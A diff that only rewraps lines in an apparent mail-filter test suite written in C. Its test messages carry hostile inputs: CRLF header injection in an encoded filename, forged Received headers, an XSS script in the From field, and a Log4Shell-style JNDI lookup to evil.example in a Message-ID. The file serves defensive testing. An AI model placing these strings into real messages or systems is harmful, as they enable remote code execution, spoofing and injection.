@@ -264,8 +264,8 @@ static void nested_words(struct kit *k)
 	kit_send(k, "c", &m);
 	m = kit_mail(k);
 	kit_expect(k, QUAR_OR_REJECT, NULL);
-	kit_attach(k, &m, "application/octet-stream",
-		   nested(k, nested(k, STR("setup.exe"))).p, fixture_com(k));
+	kit_attach(k, &m, "application/octet-stream", nested(k, nested(k, STR("setup.exe"))).p,
+		   fixture_com(k));
 	kit_send(k, "d", &m);
 }
 
@@ -300,8 +300,8 @@ static void injected(struct kit *k)
 	m.from = STR("=?utf-8?Q?Marie=0AMartin?= <marie.martin@partner.example>");
 	kit_send(k, "c", &m);
 	m = kit_mail(k);
-	kit_attach(k, &m, "text/plain", "=?utf-8?Q?a=0D=0AContent-Type:_text/html=0D=0A.txt?=",
-		   fixture_txt(k));
+	kit_attach(k, &m, "text/plain",
+		   "=?utf-8?Q?a=0D=0AContent-Type:_text/html=0D=0A.txt?=", fixture_txt(k));
 	kit_send(k, "b", &m);
 }
 
@@ -322,8 +322,9 @@ static void folding(struct kit *k)
 
 	send_extra(k, "a", STR("X-A: a\r\n   \r\n b\r\n"));
 	send_extra(k, "b", STR("X-A: =?utf-8?Q?a\r\n b?=\r\n \t \r\n"));
-	kit_send_bytes(k, "c", &m,
-		       kit_join(k, (const str[]){ STR(" suite de rien\r\n"), kit_bytes(k, &m) }, 2));
+	kit_send_bytes(
+		k, "c", &m,
+		kit_join(k, (const str[]){ STR(" suite de rien\r\n"), kit_bytes(k, &m) }, 2));
 	kit_expect(k, BATTERY_ACCEPT | FLAG_OR_MORE, NULL);
 	m.subject = STR("=?utf-8?Q?Documents\r\n du?= service");
 	kit_send(k, "d", &m);
@@ -359,9 +360,10 @@ static void forged_received(struct kit *k)
 		   STR("Received: by mail.evil.example (8.11) id abcdef123456; Mon, 01 Jan 2024 "
 		       "10:00:00 +0000 (Standard Time)\r\n"));
 	kit_expect(k, FLAG_OR_MORE, "FORGED_GENERIC_RECEIVED4");
-	send_extra(k, "a4",
-		   STR("Received: from abcd (203.0.113.5) by efgh with SMTP id 12; Mon, 01 Jan 2024 "
-		       "10:00:00 +0000\r\n"));
+	send_extra(
+		k, "a4",
+		STR("Received: from abcd (203.0.113.5) by efgh with SMTP id 12; Mon, 01 Jan 2024 "
+		    "10:00:00 +0000\r\n"));
 	forged_by_us(k);
 }
 
@@ -373,9 +375,10 @@ static void bytes_in_received(struct kit *k)
 	send_extra(k, "b",
 		   STR("Received: from a\x07 ([203.0.113.5]) by x.example; Sat, 21 Nov 2026 "
 		       "18:00:00 +0100\r\n"));
-	send_extra(k, "c",
-		   STR("Received: from a\0b ([203.0.113.5]) by x.example; Sat, 21 Nov 2026 18:00:00 "
-		       "+0100\r\n"));
+	send_extra(
+		k, "c",
+		STR("Received: from a\0b ([203.0.113.5]) by x.example; Sat, 21 Nov 2026 18:00:00 "
+		    "+0100\r\n"));
 }
 
 static void no_mime_version(struct kit *k)
@@ -473,7 +476,8 @@ static void script_elsewhere(struct kit *k)
 
 	m.from = STR("\"<script>alert(1)</script>\" <marie.martin@partner.example>");
 	kit_send(k, "f1", &m);
-	m.from = STR("=?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?= <marie.martin@partner.example>");
+	m.from = STR(
+		"=?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?= <marie.martin@partner.example>");
 	kit_send(k, "f2", &m);
 	m = kit_mail(k);
 	m.message_id = STR("<${jndi:ldap://evil.example/a}@partner.example>");
